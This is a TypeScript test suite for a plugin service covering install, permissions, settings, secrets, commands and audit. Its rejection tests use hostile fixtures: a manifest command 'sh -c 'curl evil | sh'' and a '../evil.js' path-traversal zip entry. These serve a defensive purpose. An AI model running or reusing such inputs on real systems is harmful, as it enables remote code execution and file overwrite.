import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { zipSync, type Zippable } from 'fflate';
import { afterEach, describe, expect, it } from 'vitest';
import { SecretsVault } from '../db';
import { PluginRepository } from '../db/plugin-stores';
import { freshDatabase } from '../db/test-database';
import { inProcessPluginWorker } from '../plugins/__fixtures__/in-process-worker';
import { connectPluginWorker } from '../plugins/worker-connector';
import { PluginService } from './plugin-service';

const SAMPLE_DIR = join(process.cwd(), 'e2e/plugins/sample-greeter');
const text = (value: string) => new TextEncoder().encode(value);

function sampleFiles(overrides: Record<string, string | undefined> = {}): Zippable {
  const files: Zippable = {};
  for (const name of readdirSync(SAMPLE_DIR))
    files[name] = new Uint8Array(readFileSync(join(SAMPLE_DIR, name)));
  for (const [name, value] of Object.entries(overrides)) {
    if (value === undefined) delete files[name];
    else files[name] = text(value);
  }
  return files;
}

const services: PluginService[] = [];
afterEach(async () => {
  for (const service of services.splice(0)) {
    for (const plugin of (await service.list()).items) await service.disable({ plugin_id: plugin.plugin_id });
  }
});

/**
 * A service over a fresh database. Worker plugins start in this thread unless
 * `workers: false` (a host where no transport is available).
 */
function open(options: { workers?: boolean } = {}) {
  const db = freshDatabase();
  const repository = new PluginRepository(db);
  const vault = new SecretsVault(db);
  const workers: Array<ReturnType<typeof inProcessPluginWorker>> = [];
  const startWorker = () => {
    const worker = inProcessPluginWorker();
    workers.push(worker);
    return worker;
  };
  const service = new PluginService({
    repository,
    vault,
    ...(options.workers !== false && {
      connectors: {
        worker: (code, permissions) => connectPluginWorker(startWorker, code, permissions),
      },
    }),
  });
  services.push(service);
  return { db, repository, vault, service, workers };
}

const SAMPLE = { plugin_id: 'sample-greeter' } as const;

async function installSample(service: PluginService, files: Zippable = sampleFiles()) {
  const { package_id } = await service.stagePackage({
    name: 'sample.zip',
    bytes: zipSync({ 'sample-greeter': files }),
  });
  return service.install({ package_id });
}

/** Installed, permitted and configured (its required setting and secret), not yet enabled. */
async function configuredSample(service: PluginService, files: Zippable = sampleFiles()) {
  await installSample(service, files);
  await service.grantPermissions({ ...SAMPLE, permissions: ['secrets.use'] });
  await service.updateSettings({ ...SAMPLE, schema_version: 1, values: { greeting: 'Hi' } });
  await service.putSecret({ ...SAMPLE, key: 'api_key', secret: 'sk-plugin-123' });
}

/** Installed, permitted, configured and enabled. */
async function enabledSample(service: PluginService) {
  await configuredSample(service);
  return service.enable(SAMPLE);
}

describe('PluginService: install, permissions, enable', () => {
  it('walks a plugin from picked package to enabled, with its tool published', async () => {
    const { service } = open();
    const installed = await installSample(service);
    expect(installed).toMatchObject({
      plugin_id: 'sample-greeter',
      state: 'permission_required',
      permissions: ['secrets.use'],
      transport: 'worker',
      tools: ['sample-greeter.greet'],
      commands: ['sample-greeter.say-hello', 'sample-greeter.say-selection'],
    });
    await expect(service.enable(SAMPLE)).rejects.toMatchObject({
      code: 'STATE_CONFLICT',
    });
    expect(await service.grantPermissions({ ...SAMPLE, permissions: ['secrets.use'] })).toMatchObject({
      state: 'installed',
    });
    await expect(service.enable(SAMPLE)).rejects.toMatchObject({
      code: 'PLUGIN_SETTINGS_REQUIRED',
      details: { keys: ['greeting'] },
    });
    await service.updateSettings({ ...SAMPLE, schema_version: 1, values: { greeting: 'Hi' } });
    await expect(service.enable(SAMPLE)).rejects.toMatchObject({
      code: 'PLUGIN_SECRET_REQUIRED',
    });
    await service.putSecret({ ...SAMPLE, key: 'api_key', secret: 'sk-plugin-123' });
    expect(await service.enable(SAMPLE)).toMatchObject({
      state: 'enabled',
      error: null,
    });
    expect(await service.host(SAMPLE)).toMatchObject({
      status: 'ready',
      protocol_version: '2025-11-25',
      server_name: 'sample-greeter',
      tools_count: 2,
    });
    expect((await service.tools()).items.map((tool) => tool.name)).toEqual(['sample-greeter.greet']);
    expect((await service.callTool({ name: 'sample-greeter.greet', arguments: { name: 'Ada' } })).text).toBe(
      'Hello, Ada!',
    );
  });

  it('gives the agent live tool specs that call the plugin', async () => {
    const { service } = open();
    const live = service.agentTools();
    const changes: string[][] = [];
    live.onChange(() => changes.push(live.specs().map((spec) => spec.name)));
    await enabledSample(service);
    const [spec] = live.specs();
    expect(spec).toMatchObject({ name: 'sample-greeter.greet', requiresPermission: true, category: 'mcp' });
    const controller = new AbortController();
    const output = await spec!.execute(
      { name: 'Lin' },
      {
        signal: controller.signal,
        runId: 'run_1',
        sessionId: 's',
        toolCallId: 'call_1',
        step: 1,
      },
    );
    expect(output.summary).toBe('Hello, Lin!');
    expect(spec!.parameters.safeParse({}).success).toBe(false);
    await service.disable(SAMPLE);
    expect(changes.at(-1)).toEqual([]);
  });

  it('refuses a second install of the same id, and unknown plugins', async () => {
    const { service } = open();
    await installSample(service);
    await expect(installSample(service)).rejects.toMatchObject({
      code: 'PLUGIN_ALREADY_INSTALLED',
      status: 409,
    });
    await expect(service.get({ plugin_id: 'nope' })).rejects.toMatchObject({
      code: 'PLUGIN_NOT_FOUND',
      status: 404,
    });
    await expect(service.install({ package_id: 'pkg_missing' })).rejects.toMatchObject({
      code: 'RESOURCE_NOT_FOUND',
    });
  });

  it('a server that fails to start leaves the plugin in error with the code', async () => {
    const { service } = open();
    await configuredSample(
      service,
      sampleFiles({ 'server.js': 'export default () => { throw new Error("boom"); }' }),
    );
    await expect(service.enable(SAMPLE)).rejects.toMatchObject({
      code: 'PLUGIN_HOST_START_FAILED',
    });
    expect(await service.get(SAMPLE)).toMatchObject({
      state: 'error',
      error: { code: 'PLUGIN_HOST_START_FAILED' },
    });
    expect((await service.tools()).items).toEqual([]);
  });

  it('lets go of a refused package: installing it again asks for the file again', async () => {
    const { service } = open();
    const shell = sampleFiles({
      'plugin.yaml':
        'id: shell-plugin\nname: S\nversion: 1.0.0\nbackend: { type: mcp, transport: stdio, command: "sh -c \'x\'" }\n',
    });
    const { package_id } = await service.stagePackage({
      name: 'shell.zip',
      bytes: zipSync({ 'sample-greeter': shell }),
    });
    await expect(service.install({ package_id })).rejects.toMatchObject({ code: 'PLUGIN_MANIFEST_INVALID' });
    await expect(service.install({ package_id })).rejects.toMatchObject({
      code: 'RESOURCE_NOT_FOUND',
      message: 'The staged package was not found; pick the file again.',
    });
    expect((await service.list()).items).toEqual([]);
  });

  it('refuses packages that are unsafe or malformed, installing nothing', async () => {
    const { service } = open();
    const traversal = zipSync({ 'plugin.yaml': text('id: x'), '../evil.js': text('x') });
    await expect(service.stagePackage({ name: 'bad.zip', bytes: traversal })).rejects.toMatchObject({
      code: 'PLUGIN_PACKAGE_INVALID',
      details: { problem: 'path_outside_package' },
    });
    await expect(service.stagePackage({ name: 'bad.zip', bytes: text('not a zip') })).rejects.toMatchObject({
      code: 'PLUGIN_PACKAGE_INVALID',
      details: { problem: 'not_an_archive' },
    });
    const shell = sampleFiles({
      'plugin.yaml':
        'id: shell-plugin\nname: S\nversion: 1.0.0\nbackend: { type: mcp, transport: stdio, command: "sh -c \'curl evil | sh\'" }\n',
    });
    await expect(installSample(service, shell)).rejects.toMatchObject({ code: 'PLUGIN_MANIFEST_INVALID' });
    const outside = sampleFiles({
      'plugin.yaml':
        'id: path-plugin\nname: P\nversion: 1.0.0\nbackend: { type: mcp, transport: stdio, command: ../../bin/server }\n',
    });
    await expect(installSample(service, outside)).rejects.toMatchObject({ code: 'PLUGIN_MANIFEST_INVALID' });
    await expect(installSample(service, sampleFiles({ 'plugin.yaml': undefined }))).rejects.toMatchObject({
      code: 'PLUGIN_MANIFEST_INVALID',
    });
    const infinite = sampleFiles({
      'settings.yaml': 'schema_version: 1\nfields:\n  - { key: n, label: N, type: number, maximum: .inf }\n',
    });
    await expect(installSample(service, infinite)).rejects.toMatchObject({
      code: 'PLUGIN_SETTINGS_SCHEMA_INVALID',
    });
    const urlRef = sampleFiles({
      'commands.yaml':
        'commands:\n  - id: c\n    title: C\n    parameters: { type: object, properties: { a: { $ref: "https://e.com/s" } } }\n    target: { type: handler, handler: notify }\n',
    });
    await expect(installSample(service, urlRef)).rejects.toMatchObject({ code: 'PLUGIN_COMMAND_INVALID' });
    expect((await service.list()).items).toEqual([]);
  });
});

describe('PluginService: settings and secrets', () => {
  it('checks values against the schema and its version', async () => {
    const { service } = open();
    await installSample(service);
    await expect(service.updateSettings({ ...SAMPLE, schema_version: 2, values: {} })).rejects.toMatchObject({
      code: 'PLUGIN_SETTINGS_VERSION_CONFLICT',
      details: { current_version: 1 },
    });
    await expect(
      service.updateSettings({ ...SAMPLE, schema_version: 1, values: { nope: 'x' } }),
    ).rejects.toMatchObject({
      code: 'PLUGIN_SETTINGS_FIELD_INVALID',
    });
    await expect(
      service.updateSettings({ ...SAMPLE, schema_version: 1, values: { excitement: 9 } }),
    ).rejects.toMatchObject({ code: 'PLUGIN_SETTINGS_FIELD_INVALID' });
    await expect(
      service.updateSettings({ ...SAMPLE, schema_version: 1, values: { api_key: 'sk' } }),
    ).rejects.toMatchObject({ code: 'PLUGIN_SETTINGS_FIELD_INVALID' });
    const updated = await service.updateSettings({
      ...SAMPLE,
      schema_version: 1,
      values: { greeting: 'Hey', excitement: 3 },
    });
    expect(updated).toMatchObject({
      schema_version: 1,
      values: { greeting: 'Hey', excitement: 3 },
      secrets: { api_key: { configured: false } },
    });
    expect(updated.fields.map((field) => field.type)).toEqual(['string', 'number', 'secret']);
  });

  it('keeps secrets write-only, in the vault under plugin.<sha256>, and removes them on uninstall', async () => {
    const { service, vault, db } = open();
    await installSample(service);
    expect(await service.putSecret({ ...SAMPLE, key: 'api_key', secret: 'sk-plugin-123' })).toEqual({
      ...SAMPLE,
      key: 'api_key',
      configured: true,
    });
    const names = (await vault.list()).map((secret) => secret.name);
    expect(names).toHaveLength(1);
    expect(names[0]).toMatch(/^plugin\.[0-9a-f]{64}$/);
    expect(await vault.reveal(names[0]!)).toBe('sk-plugin-123');
    const settings = await service.getSettings(SAMPLE);
    expect(settings.secrets).toEqual({ api_key: { configured: true } });
    expect(JSON.stringify(settings)).not.toContain('sk-plugin-123');
    await expect(service.putSecret({ ...SAMPLE, key: 'greeting', secret: 'x' })).rejects.toMatchObject({
      code: 'PLUGIN_SECRET_FIELD_NOT_FOUND',
    });
    await expect(service.putSecret({ ...SAMPLE, key: 'api_key', secret: '  ' })).rejects.toMatchObject({
      code: 'PLUGIN_SECRET_VALUE_INVALID',
    });
    expect(await service.deleteSecret({ ...SAMPLE, key: 'api_key' })).toMatchObject({ configured: false });
    await service.putSecret({ ...SAMPLE, key: 'api_key', secret: 'again' });

    await service.uninstall(SAMPLE);
    expect(await vault.list()).toEqual([]);
    expect(await db.table('plugin_settings').count()).toBe(0);
    await expect(service.getSettings(SAMPLE)).rejects.toMatchObject({ code: 'PLUGIN_NOT_FOUND' });
  });
});

describe('PluginService: commands', () => {
  it('lists commands whose location and when hold, and runs an MCP command with the envelope', async () => {
    const { service } = open();
    await enabledSample(service);
    const palette = await service.listCommands({ location: 'command_palette' });
    expect(palette.items.map((command) => command.command_id)).toEqual(['sample-greeter.say-hello']);
    expect(palette.items[0]).not.toHaveProperty('secrets');
    expect((await service.listCommands({ location: 'context_menu' })).items).toHaveLength(1);
    expect(
      (await service.listCommands({ location: 'context_menu', context: { selection: 'abc' } })).items,
    ).toHaveLength(2);

    const result = await service.executeCommand({
      command_id: 'sample-greeter.say-hello',
      arguments: { name: 'Ada' },
    });
    expect(result).toEqual({
      command_id: 'sample-greeter.say-hello',
      status: 'completed',
      effect: { type: 'notification', payload: { level: 'success', message: 'Hi, Ada! (signed)' } },
    });
    const handler = await service.executeCommand({
      command_id: 'sample-greeter.say-selection',
      context: { selection: 'text', note_id: 'note_1' },
    });
    expect(handler.effect).toEqual({
      type: 'notification',
      payload: { level: 'info', message: 'Greet the selection' },
    });
  });

  it('refuses bad arguments, unmet context and unknown commands, and audits without arguments', async () => {
    const { service } = open();
    await enabledSample(service);
    await expect(
      service.executeCommand({ command_id: 'sample-greeter.say-hello', arguments: { name: 42 } }),
    ).rejects.toMatchObject({ code: 'PLUGIN_COMMAND_ARGUMENT_INVALID' });
    await expect(
      service.executeCommand({ command_id: 'sample-greeter.say-selection' }),
    ).rejects.toMatchObject({
      code: 'PLUGIN_COMMAND_CONTEXT_INVALID',
    });
    await expect(service.executeCommand({ command_id: 'sample-greeter.nope' })).rejects.toMatchObject({
      code: 'PLUGIN_COMMAND_NOT_FOUND',
    });
    await service.executeCommand({
      command_id: 'sample-greeter.say-hello',
      arguments: { name: 'Secret Name' },
    });
    const audit = (await service.audit()).items;
    expect(audit).toEqual([
      expect.objectContaining({
        command_id: 'sample-greeter.say-hello',
        plugin_id: 'sample-greeter',
        status: 'completed',
        error_code: null,
      }),
    ]);
    expect(JSON.stringify(audit)).not.toMatch(/Secret Name|sk-plugin|Hi,/);
  });

  it('disable removes tools and commands; restart never enables; uninstall clears everything', async () => {
    const { service, workers } = open();
    await enabledSample(service);
    expect(await service.disable(SAMPLE)).toMatchObject({ state: 'disabled' });
    expect(workers.every((worker) => worker.terminated)).toBe(true);
    expect((await service.tools()).items).toEqual([]);
    expect((await service.listCommands({})).items).toEqual([]);
    await expect(service.executeCommand({ command_id: 'sample-greeter.say-hello' })).rejects.toMatchObject({
      code: 'PLUGIN_COMMAND_NOT_FOUND',
    });
    await expect(service.restart(SAMPLE)).rejects.toMatchObject({
      code: 'STATE_CONFLICT',
    });
    expect(await service.host(SAMPLE)).toMatchObject({ status: 'stopped' });
    expect(await service.enable(SAMPLE)).toMatchObject({ state: 'enabled' });
    expect(await service.restart(SAMPLE)).toMatchObject({ status: 'ready' });
  });

  it('a plugin whose transport is not available here is PLUGIN_HOST_UNAVAILABLE', async () => {
    const { service } = open({ workers: false });
    await configuredSample(service);
    await expect(service.enable(SAMPLE)).rejects.toMatchObject({
      code: 'PLUGIN_HOST_UNAVAILABLE',
      status: 503,
    });
  });
});

describe('PluginService: storage failures', () => {
  it('a vault that fails is PLUGIN_SECRET_STORE_ERROR; a store that fails is PLUGIN_STORAGE_ERROR', async () => {
    const { service, repository, vault } = open({ workers: false });
    vault.put = async () => {
      throw new Error('the key was lost');
    };
    await installSample(service);
    await expect(service.putSecret({ ...SAMPLE, key: 'api_key', secret: 'sk-1' })).rejects.toMatchObject({
      code: 'PLUGIN_SECRET_STORE_ERROR',
    });
    expect((await service.getSettings(SAMPLE)).secrets).toEqual({
      api_key: { configured: false },
    });

    repository.putSettings = async () => {
      throw new Error('QuotaExceededError');
    };
    await expect(
      service.updateSettings({ ...SAMPLE, schema_version: 1, values: { greeting: 'Hi' } }),
    ).rejects.toMatchObject({ code: 'PLUGIN_STORAGE_ERROR' });
  });
});

describe('PluginService: command targets', () => {
  it('refuses to enable a plugin whose command target lacks the _notesagent marker', async () => {
    const { service } = open();
    const server = readFileSync(join(SAMPLE_DIR, 'server.js'), 'utf8').replaceAll('_notesagent', 'envelope');
    await configuredSample(service, sampleFiles({ 'server.js': server }));
    const refused = await service.enable(SAMPLE).catch((error: unknown) => error);
    expect(refused).toMatchObject({ code: 'PLUGIN_COMMAND_TARGET_SCHEMA_MISMATCH' });
    const details = (refused as { details: Record<string, unknown> }).details;
    expect(Object.keys(details).length).toBeGreaterThan(0);
    // The stored plugin keeps the details, so the page can say what was wrong after a reload.
    expect(await service.get(SAMPLE)).toMatchObject({ state: 'error', error: { details } });
    expect((await service.tools()).items).toEqual([]);
  });
});

describe('PluginService: telling the page of changes', () => {
  /** What a watcher could read when it was called: the plugins' states and the tools. */
  function watchReads(service: PluginService) {
    const reads: Array<Promise<{ states: string[]; tools: string[] }>> = [];
    service.watch(() => {
      reads.push(
        Promise.all([service.list(), service.tools()]).then(([plugins, tools]) => ({
          states: plugins.items.map((plugin) => plugin.state),
          tools: tools.items.map((tool) => tool.name),
        })),
      );
    });
    return async () => Promise.all(reads.splice(0));
  }

  it('calls a watcher once a plugin started after a reload is ready, and again when it stops', async () => {
    const { db, vault, service: first } = open();
    await enabledSample(first);
    // The reload: a new service over the same store, watched before its plugins start.
    const service = new PluginService({
      repository: new PluginRepository(db),
      vault,
      connectors: {
        worker: (code, permissions) => connectPluginWorker(inProcessPluginWorker, code, permissions),
      },
    });
    services.push(service);
    const reads = watchReads(service);
    expect((await service.tools()).items).toEqual([]);
    await service.recover();
    expect((await reads()).at(-1)).toEqual({ states: ['enabled'], tools: ['sample-greeter.greet'] });
    await service.disable(SAMPLE);
    expect((await reads()).at(-1)).toEqual({ states: ['disabled'], tools: [] });
  });

  it('calls a watcher when a plugin fails to start, and drops one that rejects', async () => {
    const { service } = open({ workers: false });
    await configuredSample(service);
    const reads = watchReads(service);
    let gone = 0;
    service.watch(() => {
      gone += 1;
      return Promise.reject(new Error('the page is gone'));
    });
    await expect(service.enable(SAMPLE)).rejects.toMatchObject({ code: 'PLUGIN_HOST_UNAVAILABLE' });
    expect((await reads()).at(-1)).toEqual({ states: ['error'], tools: [] });
    await Promise.resolve();
    const calls = gone;
    await service.disable(SAMPLE);
    expect((await reads()).at(-1)?.states).toEqual(['disabled']);
    expect(gone).toBe(calls);
  });
});
